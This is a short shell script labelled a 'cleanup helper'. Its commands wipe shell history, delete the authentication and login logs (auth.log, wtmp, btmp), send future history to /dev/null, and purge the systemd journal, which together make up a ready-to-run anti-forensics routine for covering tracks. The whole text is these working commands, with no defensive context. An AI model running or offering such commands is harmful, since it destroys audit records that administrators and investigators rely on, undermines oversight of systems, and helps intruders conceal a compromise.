# cleanup helper
history -c
rm -f ~/.bash_history /var/log/auth.log /var/log/wtmp /var/log/btmp
ln -sf /dev/null ~/.bash_history
journalctl --rotate && journalctl --vacuum-time=1s
unset HISTFILE
